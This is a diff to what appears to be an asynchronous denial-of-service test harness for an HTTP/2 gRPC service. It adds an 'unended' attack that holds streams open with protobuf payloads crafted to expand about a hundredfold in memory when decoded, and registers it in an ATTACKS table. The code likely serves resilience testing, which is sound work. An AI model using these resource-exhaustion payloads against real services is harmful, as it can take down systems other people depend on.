@@ -242,16 +242,29 @@ async def untaken(count):
     return held, asyncio.gather(*tasks, return_exceptions=True)
 
 
-async def unfinished(count, bytes):
-    """Messages of which the last byte is missing, on one connection."""
+async def open_calls(count, sent):
+    """Calls on one connection whose streams do not end."""
     reader, writer = await http2(GRPC)
     flow = Flow(reader, writer)
     tasks = [asyncio.create_task(flow.listen())]
     for number in range(count):
         stream = 2 * number + 1
         writer.write(grpc_head(stream, b"SubmitWebhook"))
-        tasks.append(asyncio.create_task(flow.send(stream, b"\0" + struct.pack(">I", bytes) + b"\x1a" * (bytes - 1))))
+        tasks.append(asyncio.create_task(flow.send(stream, sent)))
     return [writer], asyncio.gather(*tasks, return_exceptions=True)
+
+
+async def unfinished(count, bytes):
+    """Messages of which the last byte is missing."""
+    return await open_calls(count, b"\0" + struct.pack(">I", bytes) + b"\x1a" * (bytes - 1))
+
+
+async def unended(count, bytes):
+    """Whole messages, behind which the stream does not end. Decoded, their values take about a hundred times the bytes."""
+    # A list_value = 6 of objects with one member, which has neither a name nor a value.
+    objects = b"\x0a\x04\x2a\x02\x0a\x00" * (bytes // 6)
+    data = field(1, b"key") + field(2, b"unended") + field(3, field(6, objects))
+    return await open_calls(count, b"\0" + struct.pack(">I", len(data)) + data)
 
 
 def field(tag, data):
@@ -323,6 +336,7 @@ ATTACKS = {
     "untaken": lambda options: untaken(options.connections),
     "reflection": lambda options: reflection(200, 3, 4096),
     "unfinished": lambda options: unfinished(1000, MIB),
+    "unended": lambda options: unended(200, 2 * MIB),
     "pipelines": lambda options: pipelines(20, 256, MIB - 100),
     "bodies": lambda options: bodies(300, MIB - 200),
 }
